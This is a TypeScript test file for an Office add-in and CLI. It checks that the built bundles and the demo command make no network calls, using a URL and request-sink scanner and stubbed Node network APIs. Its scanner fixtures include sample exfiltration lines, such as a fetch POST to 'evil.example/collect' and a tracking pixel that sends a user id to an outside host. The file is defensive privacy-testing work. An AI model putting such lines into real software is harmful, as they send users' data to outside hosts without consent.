/**
 * Nothing leaves the machine (SPEC §5): no network calls, no telemetry.
 *
 * The built add-in (dist/, which `npm test`'s pretest builds): every URL in the code, pages,
 * styles and manifest must point at this machine (localhost, 127.0.0.1), the add-in's own base
 * (ADDIN_BASE_URL when the build was rebased) or the Office.js CDN; every place code could send a
 * request (fetch, XMLHttpRequest, WebSocket, EventSource, sendBeacon, importScripts, workers,
 * src/href assignments, window.open) must send it to one of those, or be on the short list of
 * known-harmless library code below, each with the reason. XML namespace URIs are names, not
 * addresses (nothing fetches them), so an http:// URI on a namespace host outside any request
 * call is allowed. Source maps are not scanned: they are never run, and hold the sources'
 * comments.
 *
 * The CLI: `clinpay demo`, in-process, with every way Node reaches the network stubbed to throw.
 * The browser test (test/browser/taskpane.test.ts) blocks and fails on any other request at run time.
 */
import * as fs from "fs";
import * as os from "os";
import * as path from "path";

const ROOT = path.resolve(__dirname, "../../..");
const DIST = path.join(ROOT, "dist");

const OFFICE_CDN = "appsforoffice.microsoft.com";
const LOCAL_HOSTS = ["localhost", "127.0.0.1", "[::1]"];

function allowedHosts(): Set<string> {
  const hosts = new Set([OFFICE_CDN, ...LOCAL_HOSTS]);
  const base = process.env.ADDIN_BASE_URL;
  if (base && base.trim()) hosts.add(new URL(base.trim()).hostname.toLowerCase());
  return hosts;
}

/** Hosts whose http:// URIs name XML vocabularies (OOXML, Office manifests, SVG, XHTML). */
const NAMESPACE_HOSTS = new Set(["www.w3.org", "schemas.openxmlformats.org", "schemas.microsoft.com", "purl.org"]);

/**
 * Exact strings in the built files that look like a request but are not one, each with why.
 * Empty today; add an entry only after reading the code around it.
 */
const HARMLESS: Record<string, string> = {};

interface Finding {
  file: string;
  what: string;
  context: string;
}

const URL_RE = /(?:\b([a-z][a-z0-9+.-]*):)?\/\/(\[[0-9a-f:]+\]|[a-z0-9_-]+(?:\.[a-z0-9_-]+)*)(?::\d+)?([^\s"'`<>()\\]*)/gi;
/** What may stand before a protocol-relative `//host` for it to be a URL rather than code. */
const REL_LEAD = /["'`(=\s]$/;

/** Calls and assignments that send a request, and how far to look for their target. */
const SINKS: Array<{ name: string; re: RegExp }> = [
  { name: "fetch()", re: /\bfetch\s*\(/g },
  { name: "XMLHttpRequest", re: /\bXMLHttpRequest\b/g },
  { name: "WebSocket", re: /\bWebSocket\b/g },
  { name: "EventSource", re: /\bEventSource\b/g },
  { name: "sendBeacon", re: /\bsendBeacon\b/g },
  { name: "importScripts", re: /\bimportScripts\b/g },
  { name: "Worker", re: /\bnew\s+(?:Shared)?Worker\s*\(/g },
  { name: "serviceWorker", re: /\bserviceWorker\s*\.\s*register\b/g },
  { name: "RTCPeerConnection", re: /\bRTCPeerConnection\b/g },
  { name: "window.open / location", re: /\bwindow\.open\s*\(|\blocation\.(?:assign|replace)\s*\(|\blocation(?:\.href)?\s*=(?!=)/g },
  { name: "src/href/action assignment", re: /\.(?:src|href|action|formAction)\s*=(?!=)|setAttribute\(\s*["'](?:src|href|action)["']/g },
];

const around = (text: string, at: number, len: number) => text.slice(Math.max(0, at - 60), at + len + 60).replace(/\s+/g, " ");

/** The string literal right after a sink, when its target is a literal at all. */
function literalTarget(text: string, end: number): string | undefined {
  const m = /^\s*\(?\s*(?:new\s+URL\s*\(\s*)?(["'`])([^"'`]*)\1/.exec(text.slice(end, end + 300));
  return m ? m[2] : undefined;
}

function isLocalTarget(target: string, hosts: Set<string>): boolean {
  const m = /^(?:([a-z][a-z0-9+.-]*):)?\/\/([^/:?#]+)/i.exec(target);
  if (m) return hosts.has(m[2].toLowerCase());
  // No host: relative to the page (the add-in's own origin), or data:/blob: (no request leaves).
  return !/^[a-z][a-z0-9+.-]*:/i.test(target) || /^(data|blob|about):/i.test(target);
}

/**
 * webpack's script-tag chunk loader (`script.src = publicPath + chunk`, marked data-webpack): it
 * loads this build's own chunks, and only from this origin when publicPath is "" (webpack.config.js
 * fixes it so). Recognised by its marker attribute and the empty public path, not by minified names.
 */
function isWebpackChunkLoader(text: string, at: number): boolean {
  const before = text.slice(Math.max(0, at - 400), at);
  return before.includes('"data-webpack"') && /\.p\s*=\s*""/.test(text);
}

/** Every URL and request sink in one built file that could reach another host. */
export function scan(file: string, text: string, hosts = allowedHosts()): Finding[] {
  const findings: Finding[] = [];
  const isMarkup = /\.(html|xml)$/i.test(file);
  const body = isMarkup ? text.replace(/<!--[\s\S]*?-->/g, (c) => " ".repeat(c.length)) : text;
  const harmless = (at: number, len: number) => Object.keys(HARMLESS).some((s) => body.slice(Math.max(0, at - s.length), at + len + s.length).includes(s));

  for (const m of body.matchAll(URL_RE)) {
    const at = m.index!;
    const scheme = (m[1] ?? "").toLowerCase();
    const host = m[2].toLowerCase();
    if (!scheme && !REL_LEAD.test(body.slice(Math.max(0, at - 1), at))) continue;
    if (scheme && !/^(https?|wss?|ftp)$/.test(scheme)) continue;
    if (!scheme && !host.includes(".") && !LOCAL_HOSTS.includes(host)) continue; // "//" + code, e.g. a regex
    if (hosts.has(host)) continue;
    if (scheme === "http" && NAMESPACE_HOSTS.has(host)) {
      // A namespace is a name only while nothing requests it.
      const lead = body.slice(Math.max(0, at - 40), at);
      if (!/(fetch\s*\(|open\s*\(|src\s*=|href\s*=|url\s*\(|importScripts\s*\(|Worker\s*\()\s*["'`]?$/.test(lead)) continue;
    }
    if (harmless(at, m[0].length)) continue;
    findings.push({ file, what: `URL to ${host}`, context: around(body, at, m[0].length) });
  }

  if (!isMarkup) {
    for (const sink of SINKS) {
      for (const m of body.matchAll(sink.re)) {
        const at = m.index!;
        const end = at + m[0].length;
        const target = literalTarget(body, end);
        if (target !== undefined && isLocalTarget(target, hosts)) continue;
        if (sink.name === "src/href/action assignment" && isWebpackChunkLoader(body, at)) continue;
        if (harmless(at, m[0].length)) continue;
        findings.push({ file, what: sink.name + (target !== undefined ? ` to "${target}"` : " (target not a literal)"), context: around(body, at, m[0].length) });
      }
    }
  } else {
    for (const m of body.matchAll(/<link\b[^>]*\brel\s*=\s*["']?(?:dns-prefetch|preconnect|prefetch|prerender)\b[^>]*>/gi)) {
      findings.push({ file, what: "resource hint", context: m[0] });
    }
  }
  return findings;
}

function distFiles(): string[] {
  if (!fs.existsSync(path.join(DIST, "functions.js"))) {
    throw new Error("dist/ is not built: run `npm run build` (npm test's pretest does it) so the bundles can be scanned");
  }
  const out: string[] = [];
  const walk = (d: string) => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, e.name);
      if (e.isDirectory()) walk(p);
      else if (/\.(js|mjs|cjs|html|css|json|xml)$/i.test(e.name)) out.push(p);
    }
  };
  walk(DIST);
  return out;
}

describe("the built add-in requests nothing but its own files and Office.js", () => {
  test("the scan covers the bundles, pages, styles and manifest", () => {
    const names = distFiles().map((f) => path.relative(DIST, f));
    for (const must of ["functions.js", "taskpane.js", "taskpane.html", "functions.json"]) expect(names).toContain(must);
  });

  test("no URL or request in dist/ reaches any other host", () => {
    const findings = distFiles().flatMap((f) => scan(path.relative(ROOT, f), fs.readFileSync(f, "utf8")));
    if (findings.length) {
      throw new Error(
        `dist/ could reach hosts other than ${[...allowedHosts()].join(", ")}:\n` +
          findings.map((f) => `  ${f.file}: ${f.what}\n      …${f.context}…`).join("\n") +
          `\nIf one is not a request (a namespace, text in a library), add its exact string to HARMLESS in ${path.relative(ROOT, __filename)} with the reason.`
      );
    }
  });

  test("the pages load Office.js from its CDN and nothing else from outside", () => {
    for (const page of ["taskpane.html", "functions.html", "commands.html"]) {
      const file = path.join(DIST, page);
      if (!fs.existsSync(file)) continue;
      const html = fs.readFileSync(file, "utf8");
      const external = [...html.matchAll(/\b(?:src|href)\s*=\s*["']?((?:https?:)?\/\/[^"'\s>]+)/gi)].map((m) => m[1]);
      expect(external.every((u) => new URL(u, "https://x/").hostname === OFFICE_CDN)).toBe(true);
    }
  });
});

describe("the scanner itself", () => {
  const hosts = new Set([OFFICE_CDN, ...LOCAL_HOSTS]);
  test.each([
    ["a.js", 'fetch("https://evil.example/collect",{method:"POST"})'],
    ["a.js", "fetch(u)"],
    ["a.js", 'const x=new XMLHttpRequest;x.open("POST",u)'],
    ["a.js", "new WebSocket(`wss://${h}/s`)"],
    ["a.js", "navigator.sendBeacon(u,JSON.stringify(d))"],
    ["a.js", 'importScripts("https://cdn.example.net/w.js")'],
    ["a.js", 'var i=new Image;i.src="//pixel.tracker.example/p.gif?u="+id'],
    ["a.js", 'const s="http://schemas.openxmlformats.org/x";fetch("http://schemas.openxmlformats.org/x")'],
    ["a.js", "window.open(link)"],
    ["a.css", "@import url(https://fonts.googleapis.com/css?family=Inter);"],
    ["a.html", '<img src="https://tracker.example/p.gif">'],
    ["a.html", '<link rel="dns-prefetch" href="//cdn.example.com">'],
    ["a.html", '<script src="https://cdn.jsdelivr.net/npm/x"></script>'],
  ])("flags %s: %s", (file, code) => {
    expect(scan(file, code, hosts).length).toBeGreaterThan(0);
  });

  test.each([
    ["a.js", 'fetch("samples/offers.csv")'],
    ["a.js", 'fetch("https://localhost:3000/functions.json")'],
    ["a.js", 'const NS="http://schemas.openxmlformats.org/spreadsheetml/2006/main";el.setAttributeNS("http://www.w3.org/2000/xmlns/","xmlns",NS)'],
    ["a.js", 'document.createElementNS("http://www.w3.org/2000/svg","svg")'],
    ["a.js", 'a.href="#problems";b.src="data:image/png;base64,AAAA"'],
    ["a.js", "const re=/^https?:\\/\\//;x=a//b\n"],
    ["a.js", 'o.p="";i.setAttribute("data-webpack",t+n),i.src=s'],
    ["a.html", '<script src="https://appsforoffice.microsoft.com/lib/1/hosted/office.js"></script><script defer src=taskpane.js></script>'],
    ["a.xml", '<OfficeApp xmlns="http://schemas.microsoft.com/office/appforoffice/1.1"><!-- e.g. https://host/path --><SourceLocation DefaultValue="https://localhost:3000/taskpane.html"/></OfficeApp>'],
  ])("passes %s: %s", (file, code) => {
    expect(scan(file, code, hosts)).toEqual([]);
  });
});

describe("the CLI makes no network call", () => {
  test("clinpay demo with every network path of Node stubbed to throw", async () => {
    /* eslint-disable @typescript-eslint/no-require-imports */
    const http = require("http");
    const https = require("https");
    const http2 = require("http2");
    const net = require("net");
    const tls = require("tls");
    const dgram = require("dgram");
    const dns = require("dns");
    const childProcess = require("child_process");
    /* eslint-enable @typescript-eslint/no-require-imports */
    const calls: string[] = [];
    const restore: Array<() => void> = [];
    const stub = (obj: Record<string, unknown>, key: string, label: string) => {
      const original = obj[key];
      obj[key] = (...args: unknown[]) => {
        calls.push(`${label}(${args.map((a) => (typeof a === "string" ? a : typeof a)).join(", ")})`);
        throw new Error(`privacy test: ${label} called`);
      };
      restore.push(() => (obj[key] = original));
    };
    for (const k of ["request", "get"]) {
      stub(http, k, `http.${k}`);
      stub(https, k, `https.${k}`);
    }
    stub(http2, "connect", "http2.connect");
    for (const k of ["connect", "createConnection"]) stub(net, k, `net.${k}`);
    stub(net.Socket.prototype, "connect", "net.Socket#connect");
    stub(tls, "connect", "tls.connect");
    stub(dgram, "createSocket", "dgram.createSocket");
    for (const k of ["lookup", "resolve", "resolve4", "resolve6", "resolveAny"]) stub(dns, k, `dns.${k}`);
    for (const k of ["lookup", "resolve", "resolve4", "resolve6"]) stub(dns.promises, k, `dns.promises.${k}`);
    // A CLI could also reach out through a child (curl, a browser): none may start.
    for (const k of ["spawn", "spawnSync", "exec", "execSync", "execFile", "execFileSync", "fork"]) stub(childProcess, k, `child_process.${k}`);
    const g = globalThis as Record<string, unknown>;
    for (const k of ["fetch", "WebSocket", "EventSource"]) {
      const had = k in g;
      const original = g[k];
      g[k] = (...args: unknown[]) => {
        calls.push(`${k}(${String(args[0])})`);
        throw new Error(`privacy test: ${k} called`);
      };
      restore.push(() => (had ? (g[k] = original) : delete g[k]));
    }

    const out = fs.mkdtempSync(path.join(os.tmpdir(), "clinpay-privacy-"));
    try {
      // Loaded only now (nothing above imports it), so a module that keeps its own reference to
      // http.request or fetch at load time keeps the stub.
      // eslint-disable-next-line @typescript-eslint/no-require-imports
      const { main } = require("../../../src/cli/main") as typeof import("../../../src/cli/main");
      // eslint-disable-next-line @typescript-eslint/no-require-imports
      const { SHEETS } = require("../../../src/sheets/registry") as typeof import("../../../src/sheets/registry");
      const lines: string[] = [];
      const code = await main(["demo", "-o", out], { out: (l) => lines.push(l), err: (l) => lines.push(l), progress: () => undefined });
      expect(code).toBe(0);
      expect(fs.readdirSync(out).filter((f) => f.endsWith(".xlsx")).sort()).toEqual(SHEETS.map((s) => s.demo.file).sort());
      expect(calls).toEqual([]);
    } finally {
      for (const r of restore.reverse()) r();
      fs.rmSync(out, { recursive: true, force: true });
    }
  });
});
